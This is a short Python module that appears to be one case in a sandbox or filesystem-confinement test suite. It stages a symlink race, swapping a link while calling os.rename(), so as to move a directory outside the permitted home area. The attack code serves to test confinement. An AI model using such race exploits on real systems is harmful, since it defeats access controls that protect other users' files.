"""The same for os.rename()."""
CATEGORY = "races"
REACH = "write"
GRANT = {"write": ["@ROOT@/home"], "read": ["@ROOT@/home"]}

import os

from . import payload

HOME = payload.ROOT + "/home"


def attack():
    os.mkdir(HOME + "/free")
    link = HOME + "/link"

    def operate():
        os.makedirs(HOME + "/own", exist_ok=True)
        os.rename(HOME + "/own", link + "/evil")

    payload.race(payload.turn_link, operate)
